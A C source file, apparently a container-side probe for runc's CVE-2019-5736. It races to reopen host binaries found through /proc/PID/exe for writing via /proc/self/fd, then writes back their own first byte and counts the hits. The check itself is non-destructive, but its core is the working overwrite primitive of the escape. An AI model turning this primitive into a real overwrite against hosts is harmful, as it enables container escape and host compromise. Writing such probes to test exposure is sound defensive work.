/* execrace STOPFILE: runc's CVE-2019-5736 from inside a vnode. Until STOPFILE exists, takes every
 * /proc/PID/exe that is not a file of the vnode's (by device and inode) with O_PATH and
 * tries to reopen it for writing through /proc/self/fd, and to write back its own first
 * byte (which changes nothing); prints "WRITABLE PID" for each success, then counts: the
 * foreign exes it held, the ones it was denied, the writable ones. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

/* Whether the exe of pid (held as fd) is a file of the vnode's own: its path inside
 * names the same file. */
static int ours(int fd, const char *link)
{
	char path[4096];
	struct stat a, b;
	ssize_t n = readlink(link, path, sizeof(path) - 1);
	if (n <= 0 || fstat(fd, &a) < 0)
		return 1;
	path[n] = 0;
	return stat(path, &b) == 0 && a.st_dev == b.st_dev && a.st_ino == b.st_ino;
}

static int try_write(int fd)
{
	char path[64], c;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	int w = open(path, O_RDWR | O_CLOEXEC);
	if (w < 0)
		return 0;
	int ok = pread(w, &c, 1, 0) == 1 && pwrite(w, &c, 1, 0) == 1;
	close(w);
	return ok;
}

/* Foreign exes held with O_PATH, retried each pass: the host's binary is busy (ETXTBSY)
 * while any process runs it, and writable the moment the last one has gone. */
#define HELD 64
static int held[HELD], tries[HELD], nheld;
static unsigned long seen, denied, hits;

static void retry_held(void)
{
	for (int i = 0; i < nheld; i++) {
		int done = try_write(held[i]);
		if (done)
			hits++, printf("WRITABLE (held %d)\n", held[i]);
		if (done || ++tries[i] > 2000) {
			close(held[i]);
			held[i] = held[--nheld], tries[i] = tries[nheld];
			i--;
		}
	}
}

static void scan(void)
{
	DIR *d = opendir("/proc");
	for (struct dirent *e; d && (e = readdir(d));) {
		char link[300];
		if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
			continue;
		snprintf(link, sizeof(link), "/proc/%s/exe", e->d_name);
		int fd = open(link, O_PATH | O_CLOEXEC);
		if (fd < 0) {
			denied += errno == EACCES || errno == EPERM;  /* not dumpable */
			continue;
		}
		if (ours(fd, link) || nheld == HELD) {
			close(fd);
			continue;
		}
		seen++;
		held[nheld] = fd, tries[nheld++] = 0;
	}
	if (d)
		closedir(d);
}

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: execrace STOPFILE\n");
		return 2;
	}
	while (access(argv[1], F_OK) < 0) {
		scan();
		retry_held();
	}
	for (int i = 0; i < 100000 && nheld; i++)  /* the last ones, once their runners are gone */
		retry_held();
	printf("foreign exes seen %lu, denied %lu, writable %lu\n", seen, denied, hits);
	return 0;
}
